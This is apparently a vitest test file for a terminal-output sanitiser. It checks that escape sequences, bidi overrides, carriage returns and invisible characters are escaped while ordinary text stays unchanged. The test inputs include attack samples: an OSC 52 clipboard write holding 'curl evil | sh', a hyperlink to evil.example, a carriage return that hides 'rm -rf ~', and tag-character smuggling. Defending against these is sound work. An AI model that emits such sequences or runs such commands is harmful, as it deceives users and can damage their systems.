import {describe, expect, it} from 'vitest'
import {hasControlChars, neutralise, neutraliseLine} from '../../../src/core/text/terminal.js'

const ESC = '\x1b'
const BEL = '\x07'

/** Nothing a terminal would interpret is left: no C0 (but tab/newline), DEL, C1, bidi control or invisible formatting. */
function inert(s: string): boolean {
  return !/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u2028\u2029\ufeff]/u.test(s)
}

describe('neutralise: escape sequences are shown, never interpreted', () => {
  const attacks: Record<string, string> = {
    'CSI colour': `${ESC}[31mred${ESC}[0m`,
    'CSI cursor up and erase line': `ok${ESC}[1A${ESC}[2Kfake`,
    'OSC 52 clipboard write (BEL)': `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${BEL}`,
    'OSC 52 clipboard write (ST)': `${ESC}]52;c;ZWNobyBoaQ==${ESC}\\`,
    'OSC 0 window title': `${ESC}]0;pwned${BEL}`,
    'OSC 8 hyperlink': `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
    'DCS': `${ESC}P+q544e${ESC}\\`,
    'C1 CSI U+009B': '\u009b31mred',
    'C1 OSC U+009D': '\u009d0;title\u0007',
    'C1 DCS U+0090 and ST U+009C': '\u0090q\u009c',
    'NEL U+0085': 'a\u0085b',
  }
  for (const [name, attack] of Object.entries(attacks)) {
    it(name, () => {
      const out = neutralise(`before ${attack} after`)
      expect(inert(out)).toBe(true)
      expect(out).toMatch(/^before .* after$/)
      expect(hasControlChars(attack)).toBe(true)
    })
  }

  it('ESC becomes \\e so the rest of the sequence is plain, readable text', () => {
    expect(neutralise(`${ESC}]52;c;aGk=${BEL}`)).toBe('\\e]52;c;aGk=\\x07')
    expect(neutralise(`${ESC}[2J`)).toBe('\\e[2J')
    expect(neutralise('\u009b2J')).toBe('\\x9b2J')
  })
})

describe('neutralise: characters that make a line show other text than it holds', () => {
  it('carriage return (an overwrite of what was printed before it)', () => {
    expect(neutralise('rm -rf ~\rls      ')).toBe('rm -rf ~\\rls      ')
    expect(neutralise('a\r\rb')).toBe('a\\r\\rb')
    expect(neutralise('end\r')).toBe('end\\r')
  })

  it('CRLF line ends overwrite nothing and stay (a Windows file in a diff stays readable); a line still shows them', () => {
    expect(neutralise('one\r\ntwo\r\n')).toBe('one\r\ntwo\r\n')
    expect(neutralise('a\r\r\nb')).toBe('a\\r\r\nb')
    expect(neutraliseLine('a\r\nb')).toBe('a\\r\\nb')
    expect(hasControlChars('a\r\nb')).toBe(true)
  })

  it('backspace, BEL, NUL, vertical tab, form feed, DEL', () => {
    expect(neutralise('safe\b\b\b\bevil')).toBe('safe\\x08\\x08\\x08\\x08evil')
    expect(neutralise(`ding${BEL}`)).toBe('ding\\x07')
    expect(neutralise('a\x00b\x0bc\x0cd\x7fe')).toBe('a\\x00b\\x0bc\\x0cd\\x7fe')
  })

  it('bidi overrides, embeddings and isolates (Trojan Source)', () => {
    for (const c of ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']) {
      const out = neutralise(`if (admin${c}) {`)
      expect(out).toBe(`if (admin\\u{${c.codePointAt(0)!.toString(16)}}) {`)
    }
  })

  it('zero-width and invisible characters, and hidden tag text', () => {
    expect(neutralise('pass\u200bword')).toBe('pass\\u{200b}word')
    expect(neutralise('r\u200dm')).toBe('r\\u{200d}m')
    expect(neutralise('r\u200cm')).toBe('r\\u{200c}m')
    expect(neutralise('\u2060x\ufeff')).toBe('\\u{2060}x\\u{feff}')
    expect(neutralise('a\u00adb')).toBe('a\\xadb')
    expect(neutralise('a\u2028b\u2029c')).toBe('a\\u{2028}b\\u{2029}c')
    // "hi" in invisible tag characters (ASCII smuggling)
    expect(neutralise('ok\u{e0068}\u{e0069}')).toBe('ok\\u{e0068}\\u{e0069}')
    // a joiner next to an invisible is not a real join
    expect(neutralise('日\u200d\u200b本')).toBe('日\\u{200d}\\u{200b}本')
  })
})

describe('neutralise: ordinary text is unchanged', () => {
  const plain = [
    'plain ASCII, punctuation !"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~',
    'tabs\tand\nnewlines\n\nkept',
    'Grüße, ça va? Żółć. Ελληνικά. Русский. 日本語のテキスト. 한국어. עברית. مرحبا بالعالم',
    'emoji 🎉 ✅ ❤️ 👍🏽 and ZWJ sequences 👨‍👩‍👧‍👦 🏳️‍🌈 ❤️‍🔥',
    'a subdivision flag 🏴󠁧󠁢󠁳󠁣󠁴󠁿 keeps its tags',
    'Persian with a non-joiner: می‌خواهم; Hindi with a joiner: क्‍ष',
    '```ts\nconst x = `a ${b}`\n  return x\n```',
    '',
  ]
  for (const text of plain) {
    it(JSON.stringify(text.slice(0, 30)), () => {
      expect(neutralise(text)).toBe(text)
      expect(hasControlChars(text)).toBe(false)
    })
  }
})

describe('neutraliseLine', () => {
  it('escapes newlines and tabs too, so one field cannot pose as a second line', () => {
    expect(neutraliseLine('step 1\nplan abc  [done]')).toBe('step 1\\nplan abc  [done]')
    expect(neutraliseLine('a\tb')).toBe('a\\tb')
    expect(neutraliseLine(`t${ESC}]0;x${BEL}\r`)).toBe('t\\e]0;x\\x07\\r')
  })

  it('leaves a plain subject with non-ASCII text alone', () => {
    expect(neutraliseLine('rename getUser → fetchUser 🚀')).toBe('rename getUser → fetchUser 🚀')
  })
})
